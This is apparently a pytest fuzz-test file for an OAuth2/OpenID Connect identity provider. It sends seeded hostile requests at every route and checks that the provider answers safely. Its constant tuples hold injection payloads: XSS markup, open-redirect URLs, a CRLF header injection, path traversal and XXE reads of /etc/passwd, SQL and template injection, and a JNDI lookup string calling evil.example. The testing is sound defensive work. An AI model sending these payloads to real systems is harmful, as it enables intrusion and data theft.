"""Thousands of hostile requests over everything that is mounted: made from a seed, so that each can be made again.

Whatever comes: no fault of ours (5xx but for an intended 503), no way to an address that nobody registered, no markup
handed back, and each refusal carries the specification's error or a page with the element `error`.
"""

import json
import random
import re
import time
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from flask.testing import FlaskClient
from werkzeug.routing import Rule
from werkzeug.test import TestResponse

from idp.protocol.answers import repeated
from tests.builders import (
    SECRET,
    VERIFIER,
    basic,
    follow,
    obtain_code,
    obtain_tokens,
    parked_in,
    request_of,
)
from tests.builders_provider import Provider, provider

__all__ = ["provider"]

ISSUER = "http://localhost:8000"
MARKUP = '"><script>alert(7)</script><img src=x onerror=alert(7)>'
METHODS = ("GET", "GET", "GET", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO")
REDIRECTS = (301, 302, 303, 307, 308)
EVIL = (
    "//evil.example",
    "/\\evil.example",
    "https://evil.example/cb",
    "https://dich-vu.example.evil/cb",
    "https://dich-vu.example/cb.evil",
    "https://dich-vu.example/cb/evil",
    "https://dich-vu.example@evil.example/cb",
    "javascript:alert(7)",
    "///evil.example",
    "/%2f/evil.example",
    "\t//evil.example",
    "https:evil.example",
)
TEXTS = (
    "",
    " ",
    "0",
    "-1",
    "null",
    "[]",
    "{}",
    "true",
    "ộ🇻🇳",
    "\0",
    "a\0b",
    "\r\nX-Evil: 1",
    "\u202e\u200f\ufeff",
    "../../../etc/passwd",
    "' OR 1=1 --",
    "{{7*7}}",
    "%s%n%00",
    "${jndi:ldap://evil.example/a}",
    "x" * 300,
    "9" * 400,
    "x" * 3000,
    "ộ" * 2500,
    MARKUP,
    "openid",
    "code",
    "none login",
    "003190000013",
    *EVIL,
)
RAW = ("%", "%zz", "%ff%fe", "%ed%a0%80", "%00", "%c0%80", "%u0000", "+", "&&==&", "a=b=c", ";", "%f4%90%80%80", "=x")
NAMES = (
    "client_id redirect_uri response_type response_mode scope state nonce prompt max_age login_hint id_token_hint "
    "ui_locales claims acr_values display code_challenge code_challenge_method request request_uri registration "
    "resource grant_type code code_verifier refresh_token client_secret client_assertion client_assertion_type "
    "access_token post_logout_redirect_uri logout_hint parked identifier password decision choice to csrf_token x "
    "x[] x.y"
).split()
CONTENT_TYPES = (
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=khong-co",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/json",
    "application/json; charset=latin-1",
    "text/plain",
    "text/html",
    "application/xml",
    "application/octet-stream",
    "",
    "x",
    "; ; ;",
    "application/x-www-form-urlencoded" + ";a=b" * 200,
)
BODIES = (
    b"",
    b"\0",
    b"\xff\xfe",
    b"a" * 70_000,
    b"&" * 5_000,
    b"a=1&" * 3_000,
    b"{",
    b"[" * 5_000,
    b'{"a":' * 2_000,
    b'--x\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nauthorization_code\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\n' + b"z" * 2_000 + b"\r\n--x--\r\n",
    b"--x\r\n\r\n--x",
    b"--x" * 500,
    b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)
JSON_VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    1.5,
    10**30,
    "",
    "x",
    "\ud800",
    "\0",
    MARKUP,
    [],
    [None],
    [[]],
    {},
    {"a": {}},
    ["x"] * 100,
    "https://dich-vu.example/cb",
    ["https://dich-vu.example/cb"],
    list(EVIL),
)
MEMBERS = (
    "redirect_uris client_name client_name#vi client_name#<b> grant_types response_types scope logo_uri policy_uri "
    "tos_uri client_uri contacts jwks jwks_uri token_endpoint_auth_method application_type subject_type "
    "sector_identifier_uri id_token_signed_response_alg default_max_age require_auth_time post_logout_redirect_uris "
    "backchannel_logout_uri backchannel_logout_session_required initiate_login_uri exceptions client_id client_secret "
    "purpose x"
).split()


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request, as the test client takes it."""

    method: str
    address: str
    headers: dict[str, str]
    body: bytes
    content_type: str
    cookies: dict[str, str] = field(default_factory=dict)


class Generator:
    """Makes requests that are nearly right, wholly wrong, or anything between."""

    def __init__(self, provider: Provider, seed: int) -> None:
        self._chance = random.Random(seed)
        browser = provider.signed_in()
        tokens = obtain_tokens(browser, provider.service, scope="openid email")
        stranger = provider.browser()
        page = follow(stranger, stranger.get("/sign-in"))
        # Real values in wrong places get further than noise.
        self._real = (
            tokens["access_token"],
            tokens["refresh_token"],
            tokens["id_token"],
            obtain_code(browser, provider.service),
            parked_in(page),
            VERIFIER,
            SECRET,
            provider.service.client_id,
            provider.service.redirect_uri,
        )
        self._good = request_of(provider.service)
        self._basic = basic(provider.service.client_id, SECRET)
        self._rules = sorted(provider.app.url_map.iter_rules(), key=lambda rule: (rule.rule, rule.endpoint))
        # The protocol's own doors are tried as often as all others together.
        self._rules += [rule for rule in self._rules if rule.rule.startswith("/oauth2/")] * 4

    def make(self) -> Hostile:
        choose = self._chance.choice
        rule = choose(self._rules)
        method = choose(METHODS)
        address = self._path(rule)
        pairs = self._pairs(rule)
        in_body = method not in ("GET", "HEAD") and self._chance.random() < 0.8
        if not in_body or self._chance.random() < 0.2:
            address += "?" + self._encode(pairs)
        body, content_type = self._body(rule, pairs) if in_body else (b"", "")
        return Hostile(method, address, self._headers(), body, content_type, self._cookies())

    def _value(self) -> str:
        return self._chance.choice(self._real if self._chance.random() < 0.3 else TEXTS)

    def _path(self, rule: Rule) -> str:
        path = re.sub(r"<[^>]+>", lambda _: quote(self._value()[:200], safe="/"), rule.rule)
        if self._chance.random() < 0.05:
            path += self._chance.choice(("/", "//", "/..;/", "%00", "%2e%2e", ".json", "\u1ed9"))
        # The test client takes what stands behind two slashes for a host.
        return "/" + path.lstrip("/")

    def _pairs(self, rule: Rule) -> list[tuple[str, str]]:
        pairs = list(self._good.items()) if self._chance.random() < 0.5 else []
        if rule.rule == "/oauth2/token" and self._chance.random() < 0.7:
            kind = self._chance.choice(("authorization_code", "refresh_token"))
            pairs = [("grant_type", kind), ("code", self._value()), ("refresh_token", self._value())]
        for _ in range(self._chance.choice((0, 1, 1, 2, 3, 8, 40))):
            name = self._chance.choice(NAMES) if self._chance.random() < 0.95 else self._value()
            pair = (name, self._value())
            if pairs and self._chance.random() < 0.6:
                pairs = [each for each in pairs if each[0] != name]
            pairs.append(pair)
        self._chance.shuffle(pairs)
        return pairs

    def _encode(self, pairs: list[tuple[str, str]]) -> str:
        text = "&".join(f"{quote(name, safe='')}={quote(value, safe='')}" for name, value in pairs)
        return text + "&x=" + self._chance.choice(RAW) if self._chance.random() < 0.15 else text

    def _body(self, rule: Rule, pairs: list[tuple[str, str]]) -> tuple[bytes, str]:
        if rule.rule == "/oauth2/register" and self._chance.random() < 0.8:
            return self._metadata(), "application/json"
        luck = self._chance.random()
        if luck < 0.7:
            return self._encode(pairs).encode(), CONTENT_TYPES[0]
        if luck < 0.85:
            return self._encode(pairs).encode(), self._chance.choice(CONTENT_TYPES)
        return self._chance.choice(BODIES), self._chance.choice(CONTENT_TYPES)

    def _metadata(self) -> bytes:
        if self._chance.random() < 0.15:
            return json.dumps(self._chance.choice(JSON_VALUES)).encode()
        document: dict[str, Any] = {"redirect_uris": ["https://dich-vu.example/cb"]}
        for _ in range(self._chance.choice((1, 1, 2, 5))):
            document[self._chance.choice(MEMBERS)] = self._chance.choice(JSON_VALUES)
        return json.dumps(document).encode()

    def _headers(self) -> dict[str, str]:
        headers: dict[str, str] = {}
        if self._chance.random() < 0.4:
            schemes = ("Basic", "Bearer", "bearer", "DPoP", "Digest", "", "Basic " * 3)
            headers["Authorization"] = self._chance.choice(
                (self._basic, f"{self._chance.choice(schemes)} {self._header_value()}", "x" * 9000)
            )
        for name in (
            "Accept-Language",
            "Host",
            "X-Forwarded-Host",
            "X-Forwarded-For",
            "Origin",
            "Referer",
            "User-Agent",
        ):
            if self._chance.random() < 0.08:
                headers[name] = self._header_value()
        return headers

    def _header_value(self) -> str:
        return re.sub(r"[\r\n\0]", "", self._value()).encode("utf-8").decode("latin-1")

    def _cookies(self) -> dict[str, str]:
        names = ("idp_session", "idp_page", "idp_device", "idp_language", "idp_text", "x")
        return {name: quote(self._value()[:500]) for name in names if self._chance.random() < 0.1}


def send(browser: FlaskClient, hostile: Hostile) -> TestResponse:
    headers = dict(hostile.headers)
    if hostile.cookies:
        headers["Cookie"] = "; ".join(f"{name}={value}" for name, value in hostile.cookies.items())
    return browser.open(
        hostile.address,
        method=hostile.method,
        headers=headers,
        data=hostile.body or None,
        content_type=hostile.content_type or None,
    )


def find_fault(provider: Provider, response: TestResponse) -> str | None:
    """What is wrong with an answer, or None."""
    status, text = response.status_code, response.text
    if status >= 500 and not (status == 503 and "Retry-After" in response.headers):
        return f"a fault of ours: {status}"
    if ("Location" in response.headers) != (status in REDIRECTS):
        return f"status {status} and Location do not go together"
    if status in REDIRECTS and not _may_go(provider, response.headers["Location"]):
        return f"sent to {response.headers['Location'][:200]}"
    if not (status == 201 and response.mimetype == "application/json"):
        if "<script>alert(7)" in text or "<img src=x" in text:
            return "markup was handed back"
    if "X-Evil" in response.headers:
        return "a header was smuggled in"
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        return "without nosniff"
    if status >= 400 and response.request.method != "HEAD":
        return _error_fault(response, text)
    return None


def _error_fault(response: TestResponse, text: str) -> str | None:
    if response.mimetype == "application/json":
        said = response.get_json()
        return None if re.fullmatch(r"[a-z_]+", said.get("error", "")) else "JSON without an error"
    if response.status_code == 401 and not text and "WWW-Authenticate" in response.headers:
        return None  # RFC 6750 3.1: told nothing but how to authenticate
    if 'id="error"' in text or 'id="sign-in"' in text:
        return None
    return f"{response.status_code} without an error for anybody: {text[:200]!r}"


def _may_go(provider: Provider, location: str) -> bool:
    """Inside the provider, or to an address that a service registered."""
    registered = (provider.service.redirect_uri, "https://dich-vu.example/da-dang-xuat")
    if any(location == uri or location.startswith(uri + "?") for uri in registered):
        return not re.search(r"[\x00-\x20\x7f-\uffff]", location)
    location = location.removeprefix(ISSUER)
    parts = urlsplit(location)
    return location.startswith("/") and location[1:2] not in ("/", "\\") and not parts.netloc


@pytest.fixture
def ready(provider: Provider, caplog: pytest.LogCaptureFixture) -> Provider:
    caplog.set_level("CRITICAL")
    return provider


def attack(provider: Provider, seed: int, times: int) -> None:
    generator = Generator(provider, seed)
    browser = provider.signed_in() if seed % 2 else provider.browser()
    seen: dict[int, int] = {}
    for number in range(times):
        hostile = generator.make()
        response = send(browser, hostile)
        seen[response.status_code] = seen.get(response.status_code, 0) + 1
        fault = find_fault(provider, response)
        assert fault is None, f"request {number} of seed {seed}: {fault}\n{hostile}"
        response.close()
        if seed % 2 and number % 50 == 0:
            browser = provider.signed_in()  # the last one was signed out on the way
    assert {200, 303, 400, 405} <= set(seen), f"the requests did not get far: {seen}"


@pytest.mark.parametrize("seed", range(10))
def test_300_hostile_requests_are_answered_as_they_should_be(ready: Provider, seed: int) -> None:
    attack(ready, seed, 300)


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(100, 120))
def test_1000_hostile_requests_are_answered_as_they_should_be(ready: Provider, seed: int) -> None:
    attack(ready, seed, 1000)


def test_each_endpoint_was_there_to_be_attacked(provider: Provider) -> None:
    rules = {rule.rule for rule in provider.app.url_map.iter_rules()}
    assert {
        "/oauth2/authorize",
        "/oauth2/token",
        "/oauth2/userinfo",
        "/oauth2/logout",
        "/oauth2/register",
        "/oauth2/jwks",
        "/.well-known/openid-configuration",
        "/.well-known/oauth-authorization-server",
    } <= rules


def test_60_kb_of_parameters_are_read_once() -> None:
    """Comparing each name with each takes half a minute for as many."""
    distinct = [(f"a{number}", "") for number in range(60_000)]
    began = time.thread_time()
    assert repeated(distinct) == []
    assert repeated([*distinct, ("a7", ""), ("resource", ""), ("resource", "")]) == ["a7"]
    assert time.thread_time() - began < 1


@pytest.mark.parametrize("path", ["/oauth2/authorize", "/oauth2/token", "/oauth2/logout", "/oauth2/userinfo"])
def test_60_kb_of_parameters_are_answered_at_once(ready: Provider, path: str) -> None:
    pairs = "&".join(f"a{number}" for number in range(9_000))[:60_000]
    browser = ready.browser()
    for method in ("GET", "POST"):
        sent: dict[str, Any] = {"query_string": pairs} if method == "GET" else {"data": pairs}
        began = time.thread_time()
        response = browser.open(path, method=method, content_type=CONTENT_TYPES[0], **sent)
        assert time.thread_time() - began < 1
        assert find_fault(ready, response) is None


@pytest.mark.parametrize("evil", EVIL)
def test_no_parameter_of_any_page_leads_away(provider: Provider, evil: str) -> None:
    """Every place that takes an address, one by one: the random requests may miss a pair."""
    browser = provider.signed_in()
    places = [
        (rule.rule, name)
        for rule in provider.app.url_map.iter_rules()
        for name in ("to", "next", "parked", "redirect_uri")
    ]
    for path, name in places:
        address = re.sub(r"<[^>]+>", "vi", path)
        response = browser.get(address, query_string={name: evil})
        assert find_fault(provider, response) is None, (address, name, response.status)
        response.close()
